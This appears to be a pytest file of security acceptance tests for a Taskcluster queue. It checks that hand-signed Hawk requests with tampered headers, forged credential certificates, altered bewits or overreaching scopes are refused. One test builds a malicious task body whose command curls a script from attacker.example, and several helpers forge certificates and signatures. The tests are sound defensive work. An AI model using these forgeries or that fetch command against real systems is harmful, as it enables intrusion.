"""Security acceptance tests: requests that must be refused, sent over raw HTTP where the client
library cannot produce them.

Raw requests are signed here by a small Hawk signer of our own (reference §8.2): a positive
control shows the server accepts what it signs, and each refusal alters exactly one thing of such
a request (which, where the test can, is then sent again unaltered and accepted); so the
alteration is what the server refused. Certificates are built as `taskcluster.createTemporaryCredentials` builds them (§8.4).
Every authentication failure is a 401 `AuthenticationFailed` with `WWW-Authenticate: hawk`; a
caller who authenticated but lacks scopes gets a 403 `InsufficientScopes`.
"""

import base64
import datetime
import hashlib
import hmac
import json
import re
import time
import urllib.parse
import uuid

import mohawk
import pytest
import requests
import slugid
import taskcluster

from conftest import (LIMITED_CLIENT, LIMITED_TOKEN, ROOT_TOKEN, claim, failure, new_task_id,
                      task_definition)

# (The client converts the strings of a credentials dict it is given in place: pass copies.)
ROOT = {"clientId": "static/taskcluster/root", "accessToken": ROOT_TOKEN}
LIMITED = {"clientId": LIMITED_CLIENT, "accessToken": LIMITED_TOKEN}
JSON = "application/json"
SKEW = 900  # seconds a Hawk `ts` may be off from the server's clock


# --- A Hawk signer of our own -------------------------------------------------------------------

def b64(data):
    return base64.b64encode(data).decode()


def payload_hash(content_type, body):
    """`hash`: base64(SHA-256(`hawk.1.payload\\n<mime>\\n<body>\\n`))."""
    mime = content_type.split(";")[0].strip().lower()
    return b64(hashlib.sha256(b"hawk.1.payload\n" + mime.encode() + b"\n" + body + b"\n").digest())


def normalized(kind, ts, nonce, method, resource, host, port, hash_="", ext=""):
    ext = ext.replace("\\", "\\\\").replace("\n", "\\n")
    return (f"hawk.1.{kind}\n{ts}\n{nonce}\n{method.upper()}\n{resource}\n{host.lower()}\n"
            f"{port}\n{hash_}\n{ext}\n")


def mac(key, string):
    key = key if isinstance(key, bytes) else key.encode()
    return b64(hmac.new(key, string.encode(), hashlib.sha256).digest())


def target(url):
    """The request-target (path and query as sent), host and port of `url`."""
    parts = urllib.parse.urlsplit(url)
    return parts.path + ("?" + parts.query if parts.query else ""), parts.hostname, parts.port


def ext_for(credentials, authorized_scopes=None):
    """`ext` as the Python client makes it: URL-safe base64 of
    `{certificate?, authorizedScopes?}`."""
    ext = {}
    if credentials.get("certificate"):
        ext["certificate"] = json.loads(credentials["certificate"])
    if authorized_scopes is not None:
        ext["authorizedScopes"] = authorized_scopes
    return base64.urlsafe_b64encode(json.dumps(ext).encode()).decode()


def sign(credentials, method, url, body=b"", content_type="", *, ts=None, nonce=None, ext=None,
         authorized_scopes=None, sign_url=None):
    """The attributes of a Hawk `Authorization` header for this request, in order.

    `sign_url` signs another URL than `url` (to send a header made for another place)."""
    resource, host, port = target(sign_url or url)
    attributes = {
        "id": credentials["clientId"],
        "ts": str(int(time.time()) if ts is None else ts),
        "nonce": nonce or uuid.uuid4().hex[:12],
        "hash": payload_hash(content_type, body),
        "ext": ext_for(credentials, authorized_scopes) if ext is None else ext,
    }
    attributes["mac"] = mac(credentials["accessToken"], normalized(
        "header", attributes["ts"], attributes["nonce"], method, resource, host, port,
        attributes["hash"], attributes["ext"]))
    return attributes


def header(attributes):
    return "Hawk " + ", ".join(f'{name}="{value}"' for name, value in attributes.items())


def send(method, url, attributes=None, body=None, content_type=None, headers=None):
    headers = dict(headers or {})
    if attributes is not None:
        headers["Authorization"] = header(attributes)
    if content_type:
        headers["Content-Type"] = content_type
    return requests.request(method, url, data=body, headers=headers, allow_redirects=False,
                            timeout=30)


def bewit(credentials, url, exp, method="GET"):
    """A bewit for `url` (which must not carry one yet), valid until `exp` (unix seconds)."""
    resource, host, port = target(url)
    ext = ext_for(credentials)
    inner_mac = mac(credentials["accessToken"],
                    normalized("bewit", exp, "", method, resource, host, port, "", ext))
    return encode_bewit(credentials["clientId"], exp, inner_mac, ext)


def encode_bewit(client_id, exp, inner_mac, ext):
    inner = f"{client_id}\\{exp}\\{inner_mac}\\{ext}"
    return base64.urlsafe_b64encode(inner.encode()).decode().rstrip("=")


def decode_bewit(value):
    client_id, exp, inner_mac, ext = base64.urlsafe_b64decode(
        value + "=" * (-len(value) % 4)).decode().split("\\")
    return client_id, exp, inner_mac, ext


def with_bewit(url, value):
    return url + ("&" if "?" in url else "?") + "bewit=" + value


def split_signed_url(url):
    """A signed URL's URL without the bewit, and the bewit."""
    match = re.match(r"^(.*)[?&]bewit=([^&]*)$", url)
    return match.group(1), match.group(2)


def flip(value):
    """`value` with its first character changed (to another base64 character)."""
    return ("B" if value[0] == "A" else "A") + value[1:]


# --- Certificates of our own --------------------------------------------------------------------

def millis(when):
    return int(when.timestamp()) * 1000


def temporary(issuer, scopes, start=None, expiry=None, name=None, signing_key=None):
    """Temporary credentials as `taskcluster.createTemporaryCredentials` makes them, but without
    its checks; `signing_key` signs with another key than the issuer's accessToken."""
    now = datetime.datetime.now(datetime.timezone.utc)
    start = start or now - datetime.timedelta(minutes=1)
    expiry = expiry or now + datetime.timedelta(hours=1)
    key = (signing_key or issuer["accessToken"]).encode()
    certificate = {"version": 1, "scopes": scopes, "start": millis(start),
                   "expiry": millis(expiry), "seed": slugid.nice() + slugid.nice()}
    lines = ["version:1"]
    if name:
        certificate["issuer"] = issuer["clientId"]
        lines += [f"clientId:{name}", f"issuer:{issuer['clientId']}"]
    lines += [f"seed:{certificate['seed']}", f"start:{certificate['start']}",
              f"expiry:{certificate['expiry']}", "scopes:"] + scopes
    certificate["signature"] = b64(hmac.new(key, "\n".join(lines).encode(),
                                            hashlib.sha256).digest())
    token = base64.urlsafe_b64encode(
        hmac.new(key, certificate["seed"].encode(), hashlib.sha256).digest()).decode().rstrip("=")
    return {"clientId": name or issuer["clientId"], "accessToken": token,
            "certificate": json.dumps(certificate)}


def edited(credentials, **changes):
    """The same credentials with fields of the certificate changed (its signature kept)."""
    certificate = json.loads(credentials["certificate"])
    certificate.update(changes)
    return dict(credentials, certificate=json.dumps(certificate))


# --- Assertions and requests --------------------------------------------------------------------

def assert_refused(response, status=401, code="AuthenticationFailed", what=""):
    try:
        body = response.json()
    except ValueError:
        body = {"text": response.text}
    assert (response.status_code, body.get("code")) == (status, code), (what, body)
    if status == 401:
        assert response.headers.get("WWW-Authenticate") == "hawk", what


def assert_auth_failed(error):
    """An error the client raised was a 401 `AuthenticationFailed`."""
    assert (error.status_code, (error.body or {}).get("code")) == (401, "AuthenticationFailed"), \
        error.body


def assert_insufficient_scopes(error):
    assert (error.status_code, (error.body or {}).get("code")) == (403, "InsufficientScopes"), \
        error.body


def exists(server, task_id):
    return requests.get(server.api(f"/task/{task_id}/status")).status_code == 200


def create_task_request(server, task_queue_id, **overrides):
    """A new taskId, its createTask URL and a body for it."""
    task_id = new_task_id()
    body = json.dumps(task_definition(task_queue_id, **overrides)).encode()
    return task_id, server.api(f"/task/{task_id}"), body


def create_task(server, credentials, task_queue_id):
    """Calls createTask with `credentials` through the client; returns the taskId."""
    task_id = new_task_id()
    server.queue(credentials=dict(credentials)).createTask(task_id,
                                                           task_definition(task_queue_id))
    return task_id


def create_task_refused(server, credentials, task_queue_id, **options):
    """createTask with `credentials` through the client: the error, after checking no task came."""
    task_id = new_task_id()
    queue = server.queue(credentials=dict(credentials), **options)
    error = failure(queue.createTask, task_id, task_definition(task_queue_id))
    assert not exists(server, task_id)
    return error


# --- Positive controls --------------------------------------------------------------------------

def test_hand_signed_requests_are_accepted(server, task_queue_id):
    """The signer agrees with mohawk (the client's Hawk library) and the server accepts what it
    signs: plain, with a certificate, and with authorizedScopes; and hand-made bewits."""
    task_id, url, body = create_task_request(server, task_queue_id)
    attributes = sign(ROOT, "PUT", url, body, JSON)
    sender = mohawk.Sender({"id": ROOT["clientId"], "key": ROOT["accessToken"],
                            "algorithm": "sha256"}, url, "PUT", content=body, content_type=JSON,
                           nonce=attributes["nonce"], ext=attributes["ext"],
                           _timestamp=int(attributes["ts"]))
    assert re.search(r'mac="([^"]+)"', sender.request_header).group(1) == attributes["mac"]
    assert re.search(r'hash="([^"]+)"', sender.request_header).group(1) == attributes["hash"]

    response = send("PUT", url, attributes, body, JSON)
    assert response.status_code == 200, response.text
    assert response.json()["status"]["taskId"] == task_id

    # Temporary credentials, hand-made, in a hand-signed header.
    cancel_url = server.api(f"/task/{task_id}/cancel")
    scope = f"queue:cancel-task:-/{task_id}/{task_id}"
    assert_refused(send("POST", cancel_url, sign(LIMITED, "POST", cancel_url)), 403,
                   "InsufficientScopes")
    response = send("POST", cancel_url, sign(temporary(ROOT, [scope]), "POST", cancel_url))
    assert response.status_code == 200, response.text
    assert response.json()["status"]["state"] == "exception"

    # authorizedScopes that the client holds.
    rerun_url = server.api(f"/task/{task_id}/rerun")
    response = send("POST", rerun_url,
                    sign(ROOT, "POST", rerun_url, authorized_scopes=["queue:rerun-task:*"]))
    assert response.status_code == 200, response.text
    assert response.json()["status"]["state"] == "pending"

    # A hand-made bewit, and the client's own.
    status_url = server.api(f"/task/{task_id}/status")
    response = send("GET", with_bewit(status_url, bewit(ROOT, status_url, int(time.time()) + 60)))
    assert response.status_code == 200, response.text
    assert response.json()["status"]["taskId"] == task_id
    client_url = server.queue().buildSignedUrl("status", task_id)
    unsigned, value = split_signed_url(client_url)
    client_id, exp, _, _ = decode_bewit(value)
    assert value == bewit(ROOT, unsigned, int(exp))
    assert send("GET", client_url).status_code == 200


def test_wrong_access_token_is_refused(server, task_queue_id):
    task_id, url, body = create_task_request(server, task_queue_id)
    wrong = dict(ROOT, accessToken="not-the-root-token")
    assert_refused(send("PUT", url, sign(wrong, "PUT", url, body, JSON), body, JSON))
    unknown = {"clientId": "nobody/at-all", "accessToken": ROOT_TOKEN}
    assert_refused(send("PUT", url, sign(unknown, "PUT", url, body, JSON), body, JSON))
    assert not exists(server, task_id)
    assert send("PUT", url, sign(ROOT, "PUT", url, body, JSON), body, JSON).status_code == 200


# --- Tampered Hawk headers ----------------------------------------------------------------------

def _mac(attributes, url, other_url):
    return dict(attributes, mac=flip(attributes["mac"])), url


def _resource(attributes, url, other_url):
    return attributes, other_url  # the header signed for `url`, sent to another task's URL


def _ts(attributes, url, other_url):
    return dict(attributes, ts=str(int(attributes["ts"]) - 1)), url


def _nonce(attributes, url, other_url):
    return dict(attributes, nonce=attributes["nonce"] + "x"), url


def _id(attributes, url, other_url):
    return dict(attributes, id=LIMITED_CLIENT), url


def _ext_dropped(attributes, url, other_url):
    # Signed with authorizedScopes; an attacker strips the restriction.
    return {k: v for k, v in attributes.items() if k != "ext"}, url


def _ext_replaced(attributes, url, other_url):
    return dict(attributes, ext=ext_for(ROOT, ["*"])), url


@pytest.mark.parametrize("alteration", [_mac, _resource, _ts, _nonce, _id, _ext_dropped,
                                        _ext_replaced], ids=lambda f: f.__name__.strip("_"))
def test_tampered_hawk_header_is_refused(server, task_queue_id, alteration):
    task_id, url, body = create_task_request(server, task_queue_id)
    other_id = new_task_id()
    other_url = server.api(f"/task/{other_id}")
    attributes = sign(ROOT, "PUT", url, body, JSON,
                      authorized_scopes=["queue:create-task:*", "queue:scheduler-id:*"])
    tampered, tampered_url = alteration(attributes, url, other_url)
    assert_refused(send("PUT", tampered_url, tampered, body, JSON))
    assert not exists(server, task_id) and not exists(server, other_id)
    # The same request unaltered is accepted.
    response = send("PUT", url, attributes, body, JSON)
    assert response.status_code == 200, response.text


def test_header_signed_for_another_host_or_port_is_refused(server, task_queue_id):
    task_id, url, body = create_task_request(server, task_queue_id)
    _, host, port = target(url)
    for elsewhere in (url.replace(f"{host}:{port}", f"example.com:{port}"),
                      url.replace(f"{host}:{port}", f"{host}:{port + 1}")):
        attributes = sign(ROOT, "PUT", url, body, JSON, sign_url=elsewhere)
        assert_refused(send("PUT", url, attributes, body, JSON))
    assert not exists(server, task_id)


BASIC = "Basic " + base64.b64encode(f"{ROOT['clientId']}:{ROOT_TOKEN}".encode()).decode()


@pytest.mark.parametrize("make", [
    lambda a: BASIC,
    lambda a: "Hawk",
    lambda a: header({k: v for k, v in a.items() if k != "mac"}),
    lambda a: header({k: v for k, v in a.items() if k != "nonce"}),
    lambda a: header(dict(a, mac="")),
    lambda a: header(a) + ', mac="' + a["mac"] + '"',
    lambda a: header(a) + ', unknown="1"',
    lambda a: header(a).replace('"', "", 1),
    lambda a: header(dict(a, ext="%%%not-base64%%%")),
    lambda a: header(dict(a, ts="soon")),
], ids=["basic", "bare-hawk", "no-mac", "no-nonce", "empty-mac", "mac-twice", "unknown-attribute",
        "unbalanced-quote", "ext-not-base64", "ts-not-a-number"])
def test_malformed_authorization_header_is_refused(server, task_queue_id, make):
    """Hawk (and so Taskcluster) answers a header it cannot parse with 401, never as anonymous."""
    task_id, url, body = create_task_request(server, task_queue_id)
    attributes = sign(ROOT, "PUT", url, body, JSON)
    response = requests.put(url, data=body, headers={"Authorization": make(attributes),
                                                     "Content-Type": JSON})
    assert_refused(response)
    assert not exists(server, task_id)


@pytest.mark.parametrize("offset", [-(SKEW + 100), SKEW + 100, -3600, 3600])
def test_timestamp_more_than_15_minutes_off_is_refused(server, task_queue_id, offset):
    task_id, url, body = create_task_request(server, task_queue_id)
    stale = sign(ROOT, "PUT", url, body, JSON, ts=int(time.time()) + offset)
    assert_refused(send("PUT", url, stale, body, JSON))
    assert not exists(server, task_id)


@pytest.mark.parametrize("offset", [-(SKEW - 120), SKEW - 120])
def test_timestamp_within_15_minutes_is_accepted(server, task_queue_id, offset):
    """The control for the refusals above: only the size of the offset differs."""
    task_id, url, body = create_task_request(server, task_queue_id)
    response = send("PUT", url, sign(ROOT, "PUT", url, body, JSON, ts=int(time.time()) + offset),
                    body, JSON)
    assert response.status_code == 200, response.text


def test_body_that_does_not_match_the_signed_hash_is_refused(server, task_queue_id):
    task_id, url, body = create_task_request(server, task_queue_id)
    definition = json.loads(body)
    definition["payload"] = {"command": ["curl", "https://attacker.example/x.sh"]}
    other_body = json.dumps(definition).encode()
    attributes = sign(ROOT, "PUT", url, body, JSON)

    # The signed header with another body.
    assert_refused(send("PUT", url, attributes, other_body, JSON))
    # The header's hash replaced by the other body's hash (the MAC covers the hash).
    rehashed = dict(attributes, hash=payload_hash(JSON, other_body))
    assert_refused(send("PUT", url, rehashed, other_body, JSON))
    # The signed header with one more byte of body (still the same JSON value).
    assert_refused(send("PUT", url, attributes, body + b" ", JSON))
    # A hash of the empty body, sent with a body.
    empty = sign(ROOT, "PUT", url, b"", "")
    assert_refused(send("PUT", url, empty, body, JSON))
    assert not exists(server, task_id)

    response = send("PUT", url, attributes, body, JSON)
    assert response.status_code == 200, response.text
    assert server.queue().task(task_id)["payload"] == {"command": ["true"]}


def test_hash_of_a_claim_work_body_is_checked(server, queue, task_queue_id):
    """The same on a POST: a claimWork body switched after signing claims nothing."""
    queue.createTask(new_task_id(), task_definition(task_queue_id))
    url = server.api("/claim-work/" + urllib.parse.quote(task_queue_id, safe=""))
    body = json.dumps({"workerGroup": "wg", "workerId": "honest", "tasks": 1}).encode()
    other = json.dumps({"workerGroup": "wg", "workerId": "intruder", "tasks": 1}).encode()
    attributes = sign(ROOT, "POST", url, body, JSON)
    assert_refused(send("POST", url, attributes, other, JSON))
    assert queue.pendingTasks(task_queue_id)["pendingTasks"] == 1
    response = send("POST", url, attributes, body, JSON)
    assert response.status_code == 200, response.text
    [claimed] = response.json()["tasks"]
    assert claimed["workerId"] == "honest"


# --- Temporary credentials ----------------------------------------------------------------------

def test_expired_or_not_yet_valid_temporary_credentials_are_refused(server, task_queue_id):
    now = datetime.datetime.now(datetime.timezone.utc)
    hour = datetime.timedelta(hours=1)
    # Control: the same certificate, valid now.
    create_task(server, temporary(ROOT, ["*"]), task_queue_id)
    create_task(server, taskcluster.createTemporaryCredentials(
        ROOT["clientId"], ROOT_TOKEN, now - hour, now + hour, ["*"]), task_queue_id)

    expired = taskcluster.createTemporaryCredentials(
        ROOT["clientId"], ROOT_TOKEN, now - 3 * hour, now - hour, ["*"])
    assert_auth_failed(create_task_refused(server, expired, task_queue_id))
    # More than the 5 minutes of grace past expiry.
    assert_auth_failed(create_task_refused(
        server, temporary(ROOT, ["*"], now - hour, now - datetime.timedelta(minutes=10)),
        task_queue_id))
    # Not yet started (more than 5 minutes ahead).
    assert_auth_failed(create_task_refused(
        server, temporary(ROOT, ["*"], now + hour, now + 2 * hour), task_queue_id))
    # Longer than 31 days (the client refuses to make these).
    assert_auth_failed(create_task_refused(
        server, temporary(ROOT, ["*"], now - hour, now + datetime.timedelta(days=32)),
        task_queue_id))
    # Expired named credentials.
    assert_auth_failed(create_task_refused(
        server, temporary(ROOT, ["*"], now - 3 * hour, now - hour, name="tests/expired"),
        task_queue_id))


def test_forged_certificates_are_refused(server, queue, task_queue_id):
    now = datetime.datetime.now(datetime.timezone.utc)
    hour = datetime.timedelta(hours=1)
    target_id = new_task_id()
    queue.createTask(target_id, task_definition(task_queue_id))
    narrow = temporary(ROOT, [f"queue:cancel-task:-/{target_id}/{target_id}"])
    # Control: the unedited certificate authenticates, and lacks the createTask scopes.
    assert_insufficient_scopes(create_task_refused(server, narrow, task_queue_id))

    # Scopes widened after signing.
    assert_auth_failed(create_task_refused(server, edited(narrow, scopes=["*"]), task_queue_id))
    assert_auth_failed(create_task_refused(
        server, edited(narrow, scopes=json.loads(narrow["certificate"])["scopes"] + ["*"]),
        task_queue_id))
    # An expired certificate's expiry moved into the future.
    expired = temporary(ROOT, ["*"], now - 3 * hour, now - hour)
    assert_auth_failed(create_task_refused(
        server, edited(expired, expiry=millis(now + hour)), task_queue_id))
    # The seed replaced (the attacker cannot derive the matching accessToken, so keeps the old).
    valid = temporary(ROOT, ["*"])
    assert_auth_failed(create_task_refused(
        server, edited(valid, seed=slugid.nice() + slugid.nice()), task_queue_id))
    # A signature by a key that is not the issuer's (with the accessToken it derives).
    assert_auth_failed(create_task_refused(
        server, temporary(ROOT, ["*"], signing_key="a-guessed-root-token"), task_queue_id))
    # The signature removed.
    certificate = json.loads(valid["certificate"])
    del certificate["signature"]
    assert_auth_failed(create_task_refused(
        server, dict(valid, certificate=json.dumps(certificate)), task_queue_id))

    # Named credentials presented under another name (the signature covers the name).
    named = temporary(ROOT, ["*"], name="tests/temp-a")
    assert_auth_failed(create_task_refused(
        server, dict(named, clientId="tests/temp-b"), task_queue_id))
    # ... or claiming the issuer as the name.
    assert_auth_failed(create_task_refused(
        server, dict(named, clientId=ROOT["clientId"]), task_queue_id))
    create_task(server, named, task_queue_id)  # control

    # The forgeries did nothing to the task they were aimed at.
    assert queue.status(target_id)["status"]["state"] == "pending"
    assert server.queue(credentials=dict(narrow)).cancelTask(target_id)["status"]["state"] == \
        "exception"


def test_temporary_credentials_cannot_exceed_their_issuers_scopes(server, task_queue_id):
    # Control: LIMITED may issue what it holds; those authenticate (and then lack scopes).
    subset = temporary(LIMITED, ["queue:create-task:project:none"])
    assert_insufficient_scopes(create_task_refused(server, subset, task_queue_id))
    # Also as the client makes them.
    now = datetime.datetime.now(datetime.timezone.utc)
    made = taskcluster.createTemporaryCredentials(
        LIMITED_CLIENT, LIMITED_TOKEN, now - datetime.timedelta(minutes=1),
        now + datetime.timedelta(hours=1), ["queue:create-task:project:none"])
    assert_insufficient_scopes(create_task_refused(server, made, task_queue_id))

    # One scope the issuer lacks, among one it has: refused as a whole, whatever is called.
    wider = temporary(LIMITED, ["queue:create-task:project:none", "queue:scheduler-id:-"])
    assert_auth_failed(create_task_refused(server, wider, task_queue_id))
    task_id = create_task(server, ROOT, task_queue_id)
    error = failure(server.queue(credentials=dict(wider)).cancelTask, task_id)
    assert_auth_failed(error)
    assert_auth_failed(create_task_refused(server, temporary(LIMITED, ["*"]), task_queue_id))
    assert_auth_failed(create_task_refused(
        server, taskcluster.createTemporaryCredentials(
            LIMITED_CLIENT, LIMITED_TOKEN, now - datetime.timedelta(minutes=1),
            now + datetime.timedelta(hours=1), ["queue:*"]), task_queue_id))

    # Named credentials need `auth:create-client:<name>`, which LIMITED lacks.
    named = temporary(LIMITED, ["queue:create-task:project:none"], name="tests/limited-temp")
    assert_auth_failed(create_task_refused(server, named, task_queue_id))

    # Temporary credentials cannot issue temporary credentials: signed with the temporary
    # accessToken, the certificate does not verify against the issuer's.
    chained = temporary(dict(ROOT, accessToken=temporary(ROOT, ["*"])["accessToken"]), ["*"])
    assert_auth_failed(create_task_refused(server, chained, task_queue_id))
    assert server.queue().status(task_id)["status"]["state"] == "pending"


def test_authorized_scopes_wider_than_the_callers_are_refused(server, task_queue_id):
    """Reference §8.3 step 3: authorizedScopes the credentials do not satisfy make the
    signature validator fail, so the request fails authentication (401), not authorization."""
    # Control: authorizedScopes within the client's scopes authenticate, then lack scopes.
    assert_insufficient_scopes(create_task_refused(
        server, LIMITED, task_queue_id, authorizedScopes=["queue:create-task:project:none"]))

    for authorized in (["queue:create-task:project:none", "queue:scheduler-id:-"], ["*"],
                       ["queue:create-task:project:*"]):
        assert_auth_failed(create_task_refused(server, LIMITED, task_queue_id,
                                               authorizedScopes=authorized))

    # Temporary credentials: authorizedScopes beyond the certificate's scopes.
    task_id = create_task(server, ROOT, task_queue_id)
    scope = f"queue:cancel-task:-/{task_id}/{task_id}"
    temp = temporary(ROOT, [scope])
    assert_auth_failed(create_task_refused(server, temp, task_queue_id,
                                           authorizedScopes=[scope, "queue:create-task:*"]))
    widened = server.queue(credentials=dict(temp), authorizedScopes=[scope, "*"])
    assert_auth_failed(failure(widened.cancelTask, task_id))
    assert server.queue().status(task_id)["status"]["state"] == "pending"
    # Control: within the certificate's scopes.
    narrowed = server.queue(credentials=dict(temp), authorizedScopes=[scope])
    assert narrowed.cancelTask(task_id)["status"]["state"] == "exception"

    # The same by hand, in a header: LIMITED authorizing itself more than it holds.
    other_id, url, body = create_task_request(server, task_queue_id)
    attributes = sign(LIMITED, "PUT", url, body, JSON,
                      authorized_scopes=["queue:create-task:project:none", "queue:*"])
    assert_refused(send("PUT", url, attributes, body, JSON))
    assert not exists(server, other_id)


# --- Bewits -------------------------------------------------------------------------------------

@pytest.fixture(scope="module")
def private_artifact(server):
    """A running task with an `error` artifact `private/secret` on run 0: getArtifact on it
    answers 424 to callers with `queue:get-artifact:private/secret`, and 403 to others."""
    queue = server.queue()
    task_queue_id = f"interop/w{uuid.uuid4().hex[:20]}"
    task_id = new_task_id()
    queue.createTask(task_id, task_definition(task_queue_id))
    [claimed] = claim(queue, task_queue_id)
    assert claimed["status"]["taskId"] == task_id
    queue.createArtifact(task_id, "0", "private/secret", {
        "storageType": "error", "reason": "file-missing-on-worker", "message": "a secret",
        "expires": taskcluster.stringDate(taskcluster.fromNow("1 day"))})
    return task_id


def artifact_url(server, task_id, name="private/secret"):
    return server.api(f"/task/{task_id}/runs/0/artifacts/" + urllib.parse.quote(name, safe=""))


def test_tampered_bewit_is_refused(server, private_artifact):
    task_id = private_artifact
    url = artifact_url(server, task_id)
    assert_refused(send("GET", url), 403, "InsufficientScopes")  # anonymous

    signed = server.queue().buildSignedUrl("getArtifact", task_id, "0", "private/secret")
    unsigned, value = split_signed_url(signed)
    assert unsigned == url
    response = send("GET", signed)  # control
    assert response.status_code == 424, response.text
    client_id, exp, inner_mac, ext = decode_bewit(value)

    tampered = {
        "mac": encode_bewit(client_id, exp, flip(inner_mac), ext),
        "exp extended": encode_bewit(client_id, int(exp) + 3600, inner_mac, ext),
        "id replaced": encode_bewit(LIMITED_CLIENT, exp, inner_mac, ext),
        "ext replaced": encode_bewit(client_id, exp, inner_mac, ext_for(ROOT, ["*"])),
        "truncated": value[:-4],
        "garbage": "x" + value,
    }
    for name, altered in tampered.items():
        assert_refused(send("GET", with_bewit(url, altered)), what=name)
    # The bewit moved to another resource.
    assert_refused(send("GET", with_bewit(artifact_url(server, task_id, "private/other"), value)))
    assert_refused(send("GET", with_bewit(server.api(f"/task/{task_id}/status"), value)))
    # A parameter added after signing.
    assert_refused(send("GET", with_bewit(url + "?extra=1", value)))

    # A bewit and an Authorization header together, each valid alone.
    assert_refused(send("GET", signed, sign(ROOT, "GET", signed)))
    # A bewit on a POST (bewits are for GET and HEAD only), though it signs the POST's URL.
    cancel_url = server.api(f"/task/{task_id}/cancel")
    assert_refused(send("POST", with_bewit(cancel_url, bewit(ROOT, cancel_url,
                                                             int(time.time()) + 60))))
    assert server.queue().status(task_id)["status"]["state"] == "running"
    assert send("GET", signed).status_code == 424


def test_expired_bewit_is_refused(server, private_artifact):
    task_id = private_artifact
    url = artifact_url(server, task_id)
    # Made just now with an exp in the past.
    assert_refused(send("GET", with_bewit(url, bewit(ROOT, url, int(time.time()) - 1))))
    assert send("GET", with_bewit(url, bewit(ROOT, url, int(time.time()) + 60))).status_code == 424

    # The client's, with a 2 s lifetime: good at first, refused once past its exp.
    signed = server.queue().buildSignedUrl("getArtifact", task_id, "0", "private/secret",
                                           expiration=2)
    exp = int(decode_bewit(split_signed_url(signed)[1])[1])
    assert send("GET", signed).status_code == 424
    time.sleep(max(0.0, exp - time.time()) + 0.3)
    assert_refused(send("GET", signed))


# --- Task credentials ---------------------------------------------------------------------------

def artifact_payload():
    return {"storageType": "error", "reason": "file-missing-on-worker", "message": "x",
            "expires": taskcluster.stringDate(taskcluster.fromNow("1 day"))}


def test_task_credentials_cannot_touch_another_task_or_run(server, queue, task_queue_id):
    first, second = new_task_id(), new_task_id()
    queue.createTask(first, task_definition(task_queue_id, priority="highest"))
    queue.createTask(second, task_definition(task_queue_id))
    claims = claim(queue, task_queue_id, tasks=2)
    if len(claims) < 2:
        claims += claim(queue, task_queue_id)
    by_task = {c["status"]["taskId"]: c for c in claims}
    first_run0 = by_task[first]["credentials"]
    worker = server.queue(credentials=dict(first_run0))

    # Another task's run.
    for call, args in ((worker.reclaimTask, (second, "0")),
                       (worker.reportCompleted, (second, "0")),
                       (worker.reportFailed, (second, "0")),
                       (worker.reportException, (second, "0", {"reason": "worker-shutdown"})),
                       (worker.createArtifact, (second, "0", "public/x", artifact_payload()))):
        assert_insufficient_scopes(failure(call, *args))
    assert queue.status(second)["status"]["runs"][0]["state"] == "running"
    assert queue.listArtifacts(second, "0")["artifacts"] == []

    # A forged copy: the certificate's scopes rewritten to the other task's run.
    certificate = json.loads(first_run0["certificate"])
    forged = dict(first_run0, certificate=json.dumps(dict(
        certificate, scopes=[s.replace(f"{first}/0", f"{second}/0")
                             for s in certificate["scopes"]])))
    forger = server.queue(credentials=dict(forged))
    assert_auth_failed(failure(forger.reportCompleted, second, "0"))
    # authorizedScopes reaching for the other task's run.
    reaching = server.queue(credentials=dict(first_run0),
                            authorizedScopes=[f"queue:resolve-task:{second}/0"])
    assert_auth_failed(failure(reaching.reportCompleted, second, "0"))
    assert queue.status(second)["status"]["state"] == "running"

    # Another run of the same task: run 0 ends with worker-shutdown, run 1 is claimed.
    assert worker.reportException(first, "0", {"reason": "worker-shutdown"})["status"][
        "runs"][1]["state"] == "pending"
    [again] = claim(queue, task_queue_id)
    assert (again["status"]["taskId"], again["runId"]) == (first, 1)
    first_run1 = again["credentials"]
    for call, args in ((worker.reclaimTask, (first, "1")),
                       (worker.reportCompleted, (first, "1")),
                       (worker.reportFailed, (first, "1")),
                       (worker.createArtifact, (first, "1", "public/x", artifact_payload()))):
        assert_insufficient_scopes(failure(call, *args))
    run1_worker = server.queue(credentials=dict(first_run1))
    assert_insufficient_scopes(failure(run1_worker.createArtifact, first, "0", "public/y",
                                       artifact_payload()))
    assert_insufficient_scopes(failure(run1_worker.reportCompleted, second, "0"))
    assert queue.status(first)["status"]["runs"][1]["state"] == "running"

    # Control: each run's own credentials work on it.
    run1_worker.createArtifact(first, "1", "public/x", artifact_payload())
    assert run1_worker.reportCompleted(first, "1")["status"]["state"] == "completed"
    second_worker = server.queue(credentials=dict(by_task[second]["credentials"]))
    assert second_worker.reportCompleted(second, "0")["status"]["state"] == "completed"
